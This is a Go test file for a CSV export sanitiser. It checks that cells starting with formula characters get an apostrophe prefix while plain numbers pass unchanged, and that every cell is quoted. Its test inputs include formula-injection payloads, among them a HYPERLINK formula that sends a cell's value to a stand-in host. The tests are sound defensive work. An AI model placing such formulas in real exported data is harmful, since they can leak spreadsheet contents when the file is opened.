package engine

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
)

func TestSpreadsheetCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+2", "'=1+2"},
		{"@SUM(1)", "'@SUM(1)"},
		{"-1+2", "'-1+2"},
		{"+1+2", "'+1+2"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"\x00=1", "'\x00=1"},
		{`=HYPERLINK("http://x/?"&A1,"c")`, `'=HYPERLINK("http://x/?"&A1,"c")`},
		{"'=1", "''=1"},
		{"'", "''"},
		{"-", "'-"},
		{"+", "'+"},
		{"+44.", "'+44."},
		{"-.5", "'-.5"},
		{"+1e5", "'+1e5"},
		// Plain numbers stay numbers.
		{"+442071234567", "+442071234567"},
		{"-1", "-1"},
		{"-0.25", "-0.25"},
		{"4420", "4420"},
		// Text that starts otherwise is untouched.
		{"", ""},
		{"2001", "2001"},
		{"carrier-a,carrier-b", "carrier-a,carrier-b"},
		{" =1", " =1"},
		{"1;=2+3", "1;=2+3"},
	} {
		if got := spreadsheetCell(tc.in); got != tc.want {
			t.Errorf("spreadsheetCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// plainNumberRE is the pattern spreadsheetCell lets through unchanged.
var plainNumberRE = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)

// undoSpreadsheetCell is what a program reading an export does: drop one
// leading apostrophe.
func undoSpreadsheetCell(s string) string { return strings.TrimPrefix(s, "'") }

// The neutraliser's properties: its output never begins with a formula
// character unless it is a plain number, it is undone exactly by
// dropping one leading apostrophe, and it changes nothing else.
func FuzzSpreadsheetCell(f *testing.F) {
	for _, s := range []string{"=1+2", "@SUM(1)", "-1+2", "\t=1", "+442071234567", "-0.5", "'x", "", "a", "1;=2"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := spreadsheetCell(in)
		if out != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(out[0])) && !plainNumberRE.MatchString(out) {
			t.Fatalf("spreadsheetCell(%q) = %q begins with a formula character", in, out)
		}
		if plainNumberRE.MatchString(in) && out != in {
			t.Fatalf("spreadsheetCell(%q) = %q: a plain number must pass unchanged", in, out)
		}
		if out != in && out != "'"+in {
			t.Fatalf("spreadsheetCell(%q) = %q: more than a leading apostrophe changed", in, out)
		}
		if undoSpreadsheetCell(out) != in {
			t.Fatalf("spreadsheetCell(%q) = %q does not round-trip", in, out)
		}
		// The record reads back through encoding/csv cell for cell.
		var b bytes.Buffer
		w := newCSVWriter(&b)
		if err := w.Write([]string{in, "x"}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(&b).Read()
		if err != nil {
			t.Fatalf("record of %q does not read back: %v (%q)", in, err, b.String())
		}
		// encoding/csv turns \r\n inside a quoted field into \n.
		if want := strings.ReplaceAll(out, "\r\n", "\n"); len(rec) != 2 || rec[0] != want || rec[1] != "x" {
			t.Fatalf("record of %q read back as %q, want [%q x]", in, rec, out)
		}
	})
}

// Every cell is quoted, so a ';' inside a cell cannot start another cell
// in a spreadsheet that splits on ';'.
func TestCSVWriterQuotesEveryCell(t *testing.T) {
	var b bytes.Buffer
	w := newCSVWriter(&b)
	w.Write([]string{"id", "called"})
	w.Write([]string{"1", `1;=2+3`})
	w.Write([]string{"2", `say "hi"`})
	w.Write([]string{"3", ""})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "\"id\",\"called\"\n\"1\",\"1;=2+3\"\n\"2\",\"say \"\"hi\"\"\"\n\"3\",\"\"\n"
	if b.String() != want {
		t.Fatalf("got %q, want %q", b.String(), want)
	}
}
